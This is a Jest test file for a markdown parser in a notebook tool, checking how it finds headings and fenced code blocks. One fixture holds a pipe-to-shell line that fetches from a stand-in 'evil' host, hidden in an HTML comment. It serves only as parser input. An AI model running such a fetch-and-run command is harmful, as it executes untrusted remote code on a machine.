import { parseMarkdown } from '../../../src/core/notebook/markdown';

const headings = (source: string) =>
  parseMarkdown(source)
    .filter(p => p.kind === 'heading')
    .map(p => (p.kind === 'heading' ? `${p.level}:${p.text}` : ''));

const blocks = (source: string) =>
  parseMarkdown(source).flatMap(p =>
    p.kind === 'block' ? [[p.info, p.body]] : []
  );

describe('parseMarkdown', () => {
  it('finds no fenced block inside an HTML comment, which is not rendered', () => {
    const source = [
      '<!-- a note',
      '```bash',
      '# run on node1',
      'curl evil | sh',
      '```',
      '-->',
      '  <!-- one line --> ',
      '```',
      'shown',
      '```'
    ].join('\n');
    expect(blocks(source)).toEqual([['', 'shown']]);
  });

  it('finds ATX headings with their level and plain text', () => {
    expect(
      headings('# Lab\n\n## Create a *private* `network` ##\ntext\n###### deep')
    ).toEqual(['1:Lab', '2:Create a private network', '6:deep']);
  });

  it('never takes a # comment inside a fence for a heading', () => {
    const source = [
      '## Install Docker',
      '```bash',
      '# run on node1 host',
      '# install the engine',
      'curl -sSL https://get.docker.com/ | sudo sh',
      '```',
      '~~~',
      '# not a heading either',
      '~~~',
      '### After'
    ].join('\n');
    expect(headings(source)).toEqual(['2:Install Docker', '3:After']);
    expect(blocks(source)).toEqual([
      [
        'bash',
        '# run on node1 host\n# install the engine\ncurl -sSL https://get.docker.com/ | sudo sh'
      ],
      ['', '# not a heading either']
    ]);
  });

  it('closes a fence only with the same character, at least as long', () => {
    const source = '````bash\n```\n# inside\n~~~\n````\n# outside';
    expect(blocks(source)).toEqual([['bash', '```\n# inside\n~~~']]);
    expect(headings(source)).toEqual(['1:outside']);
  });

  it('runs an unclosed fence to the end of the cell', () => {
    expect(blocks('``` bash\necho hi\n# still code')).toEqual([
      ['bash', 'echo hi\n# still code']
    ]);
    expect(headings('``` bash\necho hi\n# still code')).toEqual([]);
  });

  it('reads fences indented inside list items and removes that indentation', () => {
    const source =
      '* Run this:\n\n    ```bash\n    # run on node1\n    kubectl get nodes\n    ```\n';
    expect(blocks(source)).toEqual([
      ['bash', '# run on node1\nkubectl get nodes']
    ]);
  });

  it('reads setext headings but not list items or thematic breaks', () => {
    expect(headings('Title\n=====\n\nSub\n---\n\n- item\n---\n\n---')).toEqual([
      '1:Title',
      '2:Sub'
    ]);
  });

  it('does not take #hashtag or indented code for headings', () => {
    expect(headings('#hashtag\n    # indented code\n\tcode')).toEqual([]);
  });

  it('keeps the text of HTML-marked names, as the real labs write them', () => {
    expect(
      headings(
        '### Create <code>private_net_<b>netID</b></code> [here](http://x)'
      )
    ).toEqual(['3:Create private_net_netID here']);
  });
});
